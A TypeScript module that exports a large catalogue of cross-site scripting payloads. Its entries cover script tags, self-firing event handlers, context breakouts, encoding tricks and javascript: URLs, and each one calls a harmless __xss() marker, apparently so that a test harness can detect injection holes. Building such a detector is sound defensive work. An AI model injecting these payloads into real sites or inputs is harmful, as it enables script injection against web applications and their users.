/** What a payload calls when it runs; a page that lets it run has a hole. */
const call = '__xss()'

/** Elements that run something by themselves. */
const elements = [
  `<script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script/x>${call}</script/x>`,
  `<script\n>${call}</script\n>`,
  `<script src=data:text/javascript,${call}></script>`,
  `<script type=module>${call}</script>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href=data:text/javascript,${call} /></svg>`,
  `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><set onbegin=${call} attributeName=x to=1>`,
  `<math href="javascript:${call}">x</math>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${call}&lt;/script&gt;"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<object data="data:text/html,<script>parent.${call}</script>"></object>`,
  `<embed src="javascript:${call}">`,
  `<a href="javascript:${call}">x</a>`,
  `<form action="javascript:${call}"><button autofocus>x</button></form>`,
  `<button formaction="javascript:${call}">x</button>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<link rel=stylesheet href="data:text/css,*{x:expression(${call})}">`,
  `<link rel=import href="data:text/html,<script>${call}</script>">`,
  `<base href="javascript:${call}//">`,
  `<style>@import 'javascript:${call}';</style>`,
  `<style>*{background:url("javascript:${call}")}</style>`,
  `<div style="width:expression(${call})">x</div>`,
  `<template><img src onerror=${call}></template>`,
  `<noscript><p title="</noscript><img src onerror=${call}>">`,
  `<isindex type=image src=x onerror=${call}>`,
]

/** Elements with the events that come without anybody's doing, or soon. */
const events = [
  ['img src=x', 'onerror'],
  ['img src', 'onerror'],
  ['img/src=x', '/onerror'],
  ['IMG SRC=x', 'ONERROR'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['svg/', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['body', 'onfocus'],
  ['iframe', 'onload'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['a href=# autofocus tabindex=0', 'onfocus'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['video><source', 'onerror'],
  ['audio src=x', 'onerror'],
  ['marquee', 'onstart'],
  ['object data=x', 'onerror'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['script src=x', 'onerror'],
  ['div style="animation:spin 1s"', 'onanimationstart'],
  ['p style="transition:all 1s" tabindex=0', 'ontransitionend'],
  ['b', 'onmouseover'],
  ['b', 'onpointerenter'],
  ['b', 'onclick'],
].map(([element, event]) => `<${element} ${event}=${call}>`)

/** Ways out of where a text may stand in HTML. */
const exits = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '-->',
  '--!>',
  ']]>',
  '*/',
  '</script>',
  '</SCRIPT >',
  '</script/',
  '</style>',
  '</title>',
  '</textarea>',
  '</template>',
  '</noscript>',
  '</select>',
  '</svg>',
  '</math>',
  '<!--',
  '<![CDATA[',
]
const outOfText = exits.flatMap((exit) => [`${exit}<img src onerror=${call}>`, `${exit}<script>${call}</script>`])
const outOfAttributes = ['"', "'", '`', '" ', "' ", '/'].map(
  (exit) => `x${exit} autofocus tabindex=0 onfocus=${call} x=${exit}`,
)

/** Ways out of where a text may stand in a script, JSON or a template. */
const outOfScripts = [
  `';${call}//`,
  `";${call}//`,
  `\`;${call}//`,
  `\\';${call}//`,
  `\\";${call}//`,
  `'-${call}-'`,
  `"-${call}-"`,
  `\${${call}}`,
  `{{${call}}}`,
  `{{constructor.constructor('${call}')()}}`,
  `<%= ${call} %>`,
  `#{${call}}`,
  `\u2028${call}\u2029`,
  `<!--<script>${call}`,
  `"}</script><script>${call}</script>{"`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `\\x3cimg src onerror=${call}\\x3e`,
  `__proto__[x]=<img src onerror=${call}>`,
  `$&<img src onerror=${call}>`,
  `$\`<img src onerror=${call}>$'`,
]

/** What somebody decodes once more than they should. */
const encoded = [
  `&lt;img src onerror=${call}&gt;`,
  `&amp;lt;img src onerror=${call}&amp;gt;`,
  `&#60;img src onerror=${call}&#62;`,
  `&#x3c;img src onerror=${call}&#x3e;`,
  `%3Cimg%20src%20onerror=${call}%3E`,
  `%253Cimg%2520src%2520onerror=${call}%253E`,
  `＜img src onerror=${call}＞`,
  `+ADw-img src onerror=${call}+AD4-`,
  `<\u200bimg src onerror=${call}>`,
  `\u202e<img src onerror=${call}>`,
]

/** Addresses that are scripts. */
export const scriptAddresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `javascript://%0a${call}`,
  ` javascript:${call}`,
  `\u0001javascript:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `javascript\u000a:${call}`,
  `&#106;avascript:${call}`,
  `vbscript:${call}`,
  `data:text/html,<script>parent.${call}</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
]

/** Texts that run a script where a page takes them for more than text. */
export const scriptPayloads: readonly string[] = [
  ...elements,
  ...events,
  ...outOfText,
  ...outOfAttributes,
  ...outOfScripts,
  ...encoded,
  ...scriptAddresses,
]
